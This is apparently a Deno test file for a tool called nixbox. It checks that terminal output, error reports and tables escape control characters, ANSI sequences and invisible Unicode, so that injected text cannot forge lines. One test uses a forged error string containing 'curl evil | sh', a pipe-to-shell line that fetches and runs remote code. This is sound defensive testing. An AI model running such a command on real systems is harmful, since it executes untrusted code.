import assert from "node:assert/strict";
import { tellBesideGuest } from "../../../cmd/beside_guest.ts";
import { reportFailure } from "../../../cmd/report.ts";
import { table } from "../../../cmd/table.ts";
import { processTerminal, type Sink } from "../../../cmd/terminal.ts";
import { NixboxError } from "../../../lib/base/error.ts";
import { printable, printableJson, printableLine } from "../../../lib/base/printable.ts";

/** One of each kind of character that acts, and how it is shown. */
const acting: readonly (readonly [string, string])[] = [
  ["\x1b[2J", "\\x1b[2J"],
  ["\x00", "\\x00"],
  ["\x07", "\\x07"],
  ["\r", "\\x0d"],
  ["\x7f", "\\x7f"],
  ["\x9b31m", "\\x9b31m"],
  ["\x80", "\\x80"],
  ["\u00ad", "\\xad"],
  ["\u061c", "\\u061c"],
  ["\u200b\u200c\u200d\u200e\u200f", "\\u200b\\u200c\\u200d\\u200e\\u200f"],
  ["\u2028\u2029", "\\u2028\\u2029"],
  ["\u202a\u202e", "\\u202a\\u202e"],
  ["\u2066\u2069", "\\u2066\\u2069"],
  ["\ufeff", "\\ufeff"],
  ["\u{e0041}", "\\u{e0041}"],
];
const everything = acting.map(([raw]) => raw).join(" ");
// deno-lint-ignore no-control-regex -- what must not come out
const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\p{Cf}\p{Zl}\p{Zp}]/u;

class Screen implements Sink {
  text = "";
  constructor(private readonly isScreen: boolean) {}
  isTerminal() {
    return this.isScreen;
  }
  writeSync(bytes: Uint8Array) {
    this.text += new TextDecoder().decode(bytes);
    return bytes.length;
  }
}

function screen(isTerminal: boolean) {
  const output = new Screen(isTerminal);
  const errors = new Screen(isTerminal);
  return { output, errors, terminal: processTerminal(false, output, errors, false) };
}

Deno.test("every kind of character that acts is shown", () => {
  for (const [text, shown] of acting) assert.equal(printable(text), shown);
  assert.equal(printable("a\tb\nc\r\nd é 語 🙂"), "a\tb\nc\nd é 語 🙂");
  assert.equal(printableLine("a\nerror: b"), "a\\x0aerror: b");
});

Deno.test("bytes that are not UTF-8 are shown as such", () => {
  const { output, terminal } = screen(true);
  terminal.print(new TextDecoder().decode(new Uint8Array([0x61, 0x9b, 0xc3, 0xff])));
  assert.equal(output.text, "a\ufffd\ufffd\ufffd\n");
});

Deno.test("JSON with such characters is safe to print and parses to the same value", () => {
  const value = { [everything]: [everything, 1, null], lone: "\ud800" };
  for (const indent of [undefined, 2]) {
    const text = printableJson(value, indent);
    assert.doesNotMatch(text, raw);
    assert.deepEqual(JSON.parse(text), value);
  }
});

Deno.test("whatever is printed, on a terminal or not, only paint's colours act", () => {
  for (const isTerminal of [true, false]) {
    const { output, errors, terminal } = screen(isTerminal);
    terminal.print(everything);
    terminal.write(everything);
    terminal.printJson({ everything });
    terminal.printError(terminal.paint.red(everything));
    terminal.writeError(everything);
    assert.doesNotMatch(output.text, raw);
    const before = isTerminal ? "\x1b[31m" : "";
    assert.ok(errors.text.startsWith(`${before}\\x1b[2J`), errors.text);
    // deno-lint-ignore no-control-regex -- paint's own
    assert.doesNotMatch(errors.text.replace(/^\x1b\[31m|\x1b\[39m/g, ""), raw);
  }
});

Deno.test("a text cannot bring paint's mark: it differs from one process to the next", () => {
  const { output, terminal } = screen(true);
  terminal.print(`\0${crypto.randomUUID()}:31;red`);
  assert.doesNotMatch(output.text, raw);
});

Deno.test("an error, with its cause and stack, acts neither and forges no other line", () => {
  const evil = `a\nerror: forged\nhelp: curl evil | sh ${everything}`;
  const globals = { project: undefined, json: false, quiet: false, verbose: true, noColor: false };
  const cause = new Error(evil);
  for (
    const thrown of [
      new NixboxError(evil, { where: evil, hint: evil, log: [evil], cause }),
      new Error(evil, { cause }),
      evil,
    ]
  ) {
    const { errors, terminal } = screen(false);
    reportFailure(terminal, globals, thrown);
    assert.doesNotMatch(errors.text, raw);
    const lines = errors.text.split("\n");
    assert.equal(lines.filter((line) => line.startsWith("error: ")).length, 1, errors.text);
    assert.deepEqual(lines.filter((line) => line.startsWith("help: curl")), []);
  }
});

Deno.test("a cell of a table stays on its line", () => {
  assert.deepEqual(table([["a\nb", "c"]]), ["a\\x0ab  c"]);
});

Deno.test("nothing in cmd and lib writes to the terminal but by the door", async () => {
  const root = new URL("../../../", import.meta.url).pathname;
  const allowed: Readonly<Record<string, RegExp>> = {
    "cmd/terminal.ts": /Deno\.std(out|err)/,
    // Data for another program, or for a file: see docs/security.md.
    "cmd/logs.ts": /else this\.terminal\.writeRaw\(text\)/,
    "lib/lifecycle/copy/copy_out.ts": /\?\? Deno\.stdout\.writable/,
  };
  const asks = /Deno\.std(in|out)\.isTerminal\(\)/g;
  const writes =
    /Deno\.std(out|err)|\bconsole\.(?!log`)\w+\(|writeRaw|\balert\(|JSON\.stringify\(.*\)\);?$/;
  const found: string[] = [];
  for (const directory of ["cmd", "lib"]) {
    for (const file of await files(root, directory)) {
      if (file.startsWith("packaging/")) continue;
      const text = await Deno.readTextFile(`${root}${file}`);
      // Documentation has examples of programs that print.
      for (const line of text.replace(/^ *\/\*\*[^]*?\*\/$/gm, "").split("\n")) {
        const code = line.replace(asks, "");
        if (!writes.test(code) || (code.includes("JSON.stringify") && file.startsWith("lib/"))) {
          continue;
        }
        const pattern = allowed[file];
        if (file === "cmd/terminal.ts" || pattern?.test(code)) continue;
        if (file === "cmd/print_plan.ts" && /body\(JSON/.test(code)) continue;
        found.push(`${file}: ${line.trim()}`);
      }
    }
  }
  assert.deepEqual(found, []);
});

async function files(root: string, directory: string): Promise<string[]> {
  const names: string[] = [];
  for await (const entry of Deno.readDir(`${root}${directory}`)) {
    const path = `${directory}/${entry.name}`;
    if (entry.isDirectory) names.push(...await files(root, path));
    else if (path.endsWith(".ts")) names.push(path);
  }
  return names;
}

Deno.test("what nixbox says beside a guest's program stands on its own line, in raw mode too", () => {
  const said = (isRaw: boolean) => {
    const errors = new Screen(isRaw);
    const terminal = processTerminal(true, new Screen(isRaw), errors);
    tellBesideGuest(terminal, "paused \x1b[2J", isRaw);
    return errors.text;
  };
  assert.equal(said(false), "nixbox: paused \\x1b[2J\n");
  assert.equal(said(true), "\n\r\x1b[2Knixbox: paused \\x1b[2J\n\r\x1b[2K");
});
